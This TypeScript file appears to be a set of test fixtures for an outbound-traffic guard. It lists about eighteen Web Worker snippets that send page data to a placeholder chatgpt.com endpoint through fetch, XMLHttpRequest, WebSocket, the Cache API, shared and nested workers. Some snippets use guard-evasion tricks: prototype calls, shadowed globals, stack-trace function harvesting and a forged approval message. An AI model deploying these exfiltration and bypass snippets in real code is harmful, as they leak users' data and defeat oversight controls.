/** Has a worker run a script; `text` is what it's sent. */
const worker = (source: string): string =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}]))).postMessage(text)`;

/** What a worker sends of what it's sent. */
const POST = '("https://chatgpt.com/x", { method: "POST", body: data })';
const SEND = `onmessage = ({ data }) => fetch${POST}`;
const BY_PROTOTYPE = `onmessage = ({ data }) => WorkerGlobalScope.prototype.fetch.call(this, ${POST.slice(1)}`;

/** Ways of workers, which have functions of their own. Written like the transports. */
export const WORKERS: Readonly<Record<string, string>> = {
  'a worker': worker(SEND),
  'a module worker': `const script = new Blob([${JSON.stringify(SEND)}], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(script), { type: 'module' }).postMessage(text)`,
  'the XMLHttpRequest of a worker': worker(`onmessage = ({ data }) => {
      const request = new XMLHttpRequest(); request.open('POST', 'https://chatgpt.com/x', false); request.send(data);
    }`),
  'an XMLHttpRequest of a worker that waits': worker(`onmessage = ({ data }) => {
      const request = new XMLHttpRequest(); request.open('POST', 'https://chatgpt.com/x'); request.send(data);
    }`),
  "the fetch of a worker's prototype": worker(BY_PROTOTYPE),
  'a worker that hides what its guard needs': worker(`function Proxy(target) { return target } ${SEND}`),
  'a worker that hides the fetch of its prototype': worker(`function fetch() {} ${BY_PROTOTYPE}`),
  'the cache of a worker': worker(`onmessage = async ({ data }) =>
      (await caches.open('x')).add('https://chatgpt.com/x?' + encodeURIComponent(data))`),
  'the WebSocket of a worker': worker(`onmessage = ({ data }) => {
      const socket = new WebSocket('wss://ws.chatgpt.com/x'); socket.onopen = () => socket.send(data);
    }`),
  'a worker of a worker': worker(`onmessage = ({ data }) =>
      new Worker(URL.createObjectURL(new Blob([${JSON.stringify(SEND)}]))).postMessage(data)`),
  'a shared worker': `const source = 'onconnect = ({ ports: [port] }) => { port.' + ${JSON.stringify(SEND)} + ' }';
    new SharedWorker(URL.createObjectURL(new Blob([source]))).port.postMessage(text)`,
  'the functions of a stack trace in a worker':
    worker(`const functions = new Set([(request, [body]) => request.send(body)]);
    Error.stackTraceLimit = 100; Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction());
    onmessage = ({ data }) => {
      const first = new XMLHttpRequest(); first.open('POST', 'https://chatgpt.com/x');
      first.onloadstart = () => { for (const found of new Error().stack) if (found) functions.add(found) };
      first.onloadend = () => functions.forEach((found) => {
        const request = new XMLHttpRequest(); request.open('POST', 'https://chatgpt.com/x');
        try { found(request, [data]) } catch {}
      });
      first.send('one');
    }`),
  'a worker that declares the fetch of its prototype': worker(`var fetch; onmessage = ({ data }) =>
    WorkerGlobalScope.prototype.fetch.call(self, "https://chatgpt.com/x", { method: "POST", body: data })`),
  'a worker that answers itself': worker(`const { port1, port2 } = new MessageChannel();
    port2.onmessage = ({ data }) => port2.postMessage({ id: data.id, pass: true, body: null });
    dispatchEvent(new MessageEvent('message', { ports: [port1] }));
    onmessage = ({ data }) => fetch("https://chatgpt.com/x", { method: "POST", body: data })`),
  'a blob that a worker waits for': worker(`onmessage = ({ data }) => {
      const request = new Request("https://chatgpt.com/x", { method: "POST", body: data });
      Blob.prototype.then = (done) => { delete Blob.prototype.then; done(new Blob(['one'])) }; fetch(request);
    }`),
  'a worker that opens its request anew': worker(`onmessage = ({ data }) => {
      const request = new XMLHttpRequest(); request.open('POST', 'https://chatgpt.com/x'); request.send('one');
      request.open('POST', 'https://chatgpt.com/x?' + encodeURIComponent(data)); setTimeout(() => request.send('one'), 500);
    }`),
  'a worker that fails to open its request': worker(`onmessage = ({ data }) => {
      const request = new XMLHttpRequest(); request.open('POST', 'https://chatgpt.com/x?' + encodeURIComponent(data));
      try { request.open('TRACE', 'https://chatgpt.com/x') } catch {}
      request.send('one');
    }`),
  'a worker that declares its caches': worker(`var caches; onmessage = async ({ data }) => {
      const store = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'caches')?.get.call(self);
      await (await store.open('x')).add("https://chatgpt.com/x?" + encodeURIComponent(data));
    }`),
};
